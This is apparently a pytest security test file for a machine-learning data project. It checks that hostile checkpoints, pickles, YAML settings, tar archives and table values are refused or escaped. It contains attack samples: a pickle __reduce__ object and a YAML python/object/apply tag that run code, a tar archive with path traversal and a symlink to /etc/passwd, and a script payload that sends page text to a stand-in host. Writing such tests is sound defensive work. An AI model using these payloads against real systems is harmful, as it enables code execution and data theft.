"""A hostile checkpoint, archive, table or value runs nothing: it is refused, or shown as the text that it is."""

from __future__ import annotations

import io
import os
import pickle
import re
import struct
import tarfile
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import torch

from adni_tcgm.datasets.arrays import ArraysConfig, read
from adni_tcgm.datasets.emotion_files import open_arrays
from adni_tcgm.datasets.newsgroup_text import read_posts
from adni_tcgm.model import load
from adni_tcgm.storage import load_run
from preprocessing.ledger import LedgerRow, ledger_table, write_table
from preprocessing.quality.sheet import write_contact_sheet

SCRIPT = '"><script>fetch("//x.example/?"+document.body.innerText)</script>'


class Attack:
    """Makes a folder when it is unpickled."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self):
        return os.mkdir, (str(self.target),)


@pytest.fixture
def sprung(tmp_path):
    """The folder that an attack makes; it must not be there at the end."""
    target = tmp_path / "sprung"
    yield target
    assert not target.exists()


def header(text: bytes) -> bytes:
    return struct.pack("<Q", len(text)) + text


CHECKPOINTS = {
    "a header of 2^62 bytes": struct.pack("<Q", 2**62) + b"{}",
    "no header": b"",
    "a header that is no JSON": header(b"__import__('os')"),
    "a tensor beyond the end": header(b'{"weight":{"dtype":"F32","shape":[3,3],"data_offsets":[0,36]}}'),
    "a tensor of 2^60 numbers": header(b'{"weight":{"dtype":"F32","shape":[1152921504606846976],"data_offsets":[0,4]}}')
    + bytes(4),
    "tensors that overlap": header(
        b'{"weight":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"bias":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    )
    + bytes(4),
    "a header nested a thousand times": header(b'{"a":' * 1000 + b"1" + b"}" * 1000),
}


@pytest.mark.parametrize("content", CHECKPOINTS.values(), ids=CHECKPOINTS)
def test_a_broken_checkpoint_is_one_sentence(tmp_path, content):
    (tmp_path / "weights.safetensors").write_bytes(content)
    with pytest.raises(ValueError, match="not a saved model"):
        load(tmp_path / "weights.safetensors")


def test_a_pickle_in_the_place_of_a_checkpoint_is_not_loaded(tmp_path, sprung):
    torch.save({"weight": Attack(sprung)}, tmp_path / "weights.safetensors")
    with pytest.raises(ValueError, match="not a saved model"):
        load(tmp_path / "weights.safetensors")


def test_a_run_folder_whose_settings_hold_a_program_is_refused(tmp_path, sprung):
    (tmp_path / "metrics.json").write_text("{}")
    (tmp_path / "config.yaml").write_text(f"a: !!python/object/apply:os.mkdir ['{sprung}']")
    with pytest.raises(ValueError, match="could not determine a constructor"):
        load_run(tmp_path)


@pytest.mark.parametrize("name", ["a.npz", "folder"])
def test_an_archive_of_pickled_objects_is_refused(tmp_path, sprung, name):
    content = io.BytesIO()
    np.save(content, np.array([None]), allow_pickle=True)
    whole = content.getvalue()
    hostile = whole[: whole.index(b"\n") + 1] + pickle.dumps(np.array([Attack(sprung)], dtype=object))
    if name == "folder":
        (tmp_path / name).mkdir()
        (tmp_path / name / "x.npy").write_bytes(hostile)
    else:
        with zipfile.ZipFile(tmp_path / name, "w") as archive:
            archive.writestr("x.npy", hostile)
    with pytest.raises(ValueError):
        read(ArraysConfig(path=str(tmp_path / name), views={"a": "x"}))
    with pytest.raises(ValueError), open_arrays(tmp_path / name) as found:
        np.asarray(found["x"])


def test_an_archive_that_points_out_of_its_folder_writes_nothing(tmp_path):
    (tmp_path / "inside").mkdir()
    path = tmp_path / "inside" / "posts.tar"
    with tarfile.open(path, "w") as archive:
        for name in ("../../sci.space/1", "/tmp/sci.space/2", "sci.space/3"):
            member = tarfile.TarInfo(name)
            member.size = 60
            archive.addfile(member, io.BytesIO(b"\n\nrocket shuttle orbit launch satellite moon mission engine      "))
        link = tarfile.TarInfo("sci.space/4")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    before = {file.name for file in tmp_path.rglob("*")}
    posts = read_posts(str(path), ["sci.space"])
    assert "4" not in posts["sci.space"]
    assert {file.name for file in tmp_path.rglob("*")} == before


def test_values_of_a_table_are_text_in_the_page_of_quality_control(tmp_path):
    row = {"participant_id": f"sub-{SCRIPT}", "session_id": SCRIPT, "kind": "raw", "site": SCRIPT}
    write_table(pd.DataFrame([row]), tmp_path / "manifest.tsv")
    failed = LedgerRow(row["participant_id"], SCRIPT, "mri", "failed", SCRIPT, SCRIPT, SCRIPT, SCRIPT)
    write_table(ledger_table([failed]), tmp_path / "ledger.tsv")
    page = write_contact_sheet(tmp_path).read_text()
    assert page.count("<script") == 3  # the page's own: filter, data, saving
    assert "&lt;script&gt;fetch(" in page
    assert not re.search(r'(id|class|src)="[^"]*<', page)
